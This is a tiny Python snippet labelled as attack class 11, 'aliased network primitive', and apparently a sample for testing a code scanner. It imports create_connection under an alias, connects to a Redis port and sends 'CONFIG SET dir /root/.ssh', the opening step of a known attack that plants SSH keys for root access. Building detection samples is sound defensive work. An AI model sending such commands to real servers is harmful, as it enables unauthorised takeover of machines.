# attack-class: 11
# title: from socket import create_connection as cc
# why: aliased network primitive

from socket import create_connection as cc

conn = cc(("10.0.0.1", 6379))
conn.sendall(b"CONFIG SET dir /root/.ssh\r\n")
